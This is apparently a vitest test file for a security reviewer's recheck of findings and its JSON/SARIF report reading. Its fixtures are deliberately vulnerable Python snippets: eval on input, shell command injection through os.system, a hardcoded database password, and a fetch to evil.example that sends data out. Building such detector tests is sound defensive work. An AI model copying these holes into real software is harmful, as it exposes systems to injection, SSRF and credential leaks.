import { OptionError } from '@harness-sdk/core';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Finding } from '../finding.ts';
import { fingerprintOf } from '../fingerprint.ts';
import { toJson } from '../report/json.ts';
import { sampleFinding, sampleResult } from '../report/sample-result.ts';
import { toSarif } from '../report/sarif.ts';
import type { ReportedFinding } from '../reported-findings.ts';
import { createRulesEngine, type RulesEngine } from '../rules/engine.ts';
import { sourceLines } from '../source-lines.ts';
import { enclosingFunction } from '../enclosing-function.ts';
import { toFindings } from '../to-findings.ts';
import { readFindings } from './read-findings.ts';
import { recheckFindings } from './recheck-findings.ts';

let engine: RulesEngine;

beforeAll(async () => {
  engine = await createRulesEngine();
});

/** The findings of a source, as a review by rules reports them. */
function findingsIn(source: string): Finding[] {
  const lines = sourceLines(source);
  const reported = engine.check(source, 'a.py').map((hit): ReportedFinding => {
    const { line, endLine, evidence: _first, column: _column, ...fields } = hit;
    return {
      ...fields,
      owasp: [],
      related: [],
      location: { file: 'a.py', startLine: line, endLine },
      evidence: lines.slice(line - 1, endLine).join('\n'),
      scope: enclosingFunction(lines, line),
      origin: ['rules'],
      verification: { status: 'confirmed', by: 'code' },
    };
  });
  return toFindings(reported);
}

async function recheck(before: string, after: string | undefined, withEngine = true) {
  const checked = await recheckFindings(findingsIn(before), {
    readSource: () => Promise.resolve(after),
    ...(withEngine ? { engine } : {}),
  });
  return checked.map(({ status, location }) => [status, location?.startLine]);
}

const weak = 'def f(x):\n    return eval(x)\n';

describe('what became of a finding', () => {
  test.each([
    ['it is where it was', weak, weak, [['present', 2]]],
    ['it is where it was, with other white space', weak, 'def f(x):\n      return   eval(x)\n', [['present', 2]]],
    ['it has moved', weak, `import os\n\n\n${weak}`, [['moved', 5]]],
    ['its code is gone', weak, 'def f(x):\n    return int(x)\n', [['fixed', undefined]]],
    ['its code has changed and is still weak', weak, 'def f(y):\n    return eval(y)\n', [['changed', 2]]],
    ['its file is gone', weak, undefined, [['fixed', undefined]]],
    ['its file is empty', weak, '', [['fixed', undefined]]],
    [
      'its code is there and no longer weak',
      'import os\ndef f(x):\n    os.system("ls " + x)\n',
      'import os\ndef f(x):\n    x = str(int(x))\n    os.system("ls " + x)\n',
      [['fixed', undefined]],
    ],
    [
      'one of two that are equal is gone',
      'def f(x):\n    eval(x)\n\ndef g(x):\n    eval(x)\n',
      'def f(x):\n    pass\n\ndef g(x):\n    eval(x)\n',
      [
        ['fixed', undefined],
        ['present', 5],
      ],
    ],
    [
      'two that are equal have moved',
      'def f(x):\n    eval(x)\n    eval(x)\n',
      '#\n#\n#\n#\ndef f(x):\n    eval(x)\n    eval(x)\n',
      [
        ['moved', 6],
        ['moved', 7],
      ],
    ],
  ])('%s', async (_, before, after, expected) => {
    expect(await recheck(before, after)).toEqual(expected);
  });

  test('is known by its code alone, where nobody else is asked', async () => {
    const after = 'def f(x):\n    x = 1\n    return eval(x)\n';
    expect(await recheck(weak, after, false)).toEqual([['moved', 3]]);
    expect(await recheck(weak, 'def f(y):\n    return eval(y)\n', false)).toEqual([['fixed', undefined]]);
  });
});

describe('a secret, of which the report has no more than the beginning', () => {
  const secret = (value: string) => `DB_PASSWORD = "${value}"\n`;

  test('is known by its fingerprint', async () => {
    expect(await recheck(secret('Xk29-fLq7-pT5w'), `#\n${secret('Xk29-fLq7-pT5w')}`)).toEqual([['moved', 2]]);
  });

  test('that was replaced by another is not said to be the same', async () => {
    expect(await recheck(secret('Xk29-fLq7-pT5w'), secret('Xk29-aaa1-bbb2'))).toEqual([['changed', 1]]);
  });
});

test('code of which the report shows something else is known by its fingerprint', async () => {
  const before = 'def f(x):\n    return fetch("http://evil.example/" + x)\n';
  const parts = { kind: 'ssrf', file: 'a.py', scope: 'f', isSecret: false, ordinal: 0 } as const;
  const finding = sampleFinding({
    ruleId: 'llm/ssrf',
    kind: 'ssrf',
    cwe: ['CWE-918'],
    origin: ['llm'],
    location: { file: 'a.py', startLine: 2, endLine: 2 },
    evidence: '    return fetch("[address]" + x)',
    fingerprint: fingerprintOf({ ...parts, evidence: sourceLines(before)[1] ?? '' }),
  });
  const statusIn = async (source: string) => {
    const [checked] = await recheckFindings([finding], { readSource: () => Promise.resolve(source) });
    return [checked?.status, checked?.location?.startLine];
  };
  expect(await statusIn(before)).toEqual(['present', 2]);
  expect(await statusIn(`#\n${before}`)).toEqual(['moved', 3]);
  expect(await statusIn('def f(x):\n    return 1\n')).toEqual(['fixed', undefined]);
});

describe('a report', () => {
  const findings = [
    sampleFinding(),
    sampleFinding({ id: 'F002', location: { file: 'c d%.py', startLine: 2, endLine: 2 } }),
  ];
  const result = sampleResult({
    findings,
    suppressed: [sampleFinding({ suppressed: { by: 'inline', reason: 'why' } })],
  });

  test('in JSON is read back whole', () => {
    expect(readFindings(toJson(result, '1'), 'r.json')).toEqual(findings);
  });

  test('in SARIF is read back without the places it belongs to and without fixes', () => {
    const expected = findings.map(({ fix: _fix, ...finding }) => ({ ...finding, related: [] }));
    expect(readFindings(toSarif(result, '1'), 'r.sarif')).toEqual(expected);
    expect(readFindings(toSarif(result, '1', { withSuppressed: true }), 'r.sarif')).toEqual(expected);
  });

  test.each([
    ['no JSON', '{'],
    ['nothing of ours', '{"findings": []}'],
    ['another version', '{"schemaVersion": 2, "findings": []}'],
    ['SARIF of another program', '{"version":"2.1.0","runs":[{"tool":{"driver":{"name":"x"}},"results":[]}]}'],
    ['a finding that is none', '{"schemaVersion": 1, "findings": [{"id": "F001"}]}'],
  ])('that is %s is an error that names it', (_, text) => {
    expect(() => readFindings(text, 'r.json')).toThrow(OptionError);
    expect(() => readFindings(text, 'r.json')).toThrow(/^"r\.json" is no report of security-reviewer/);
  });
});
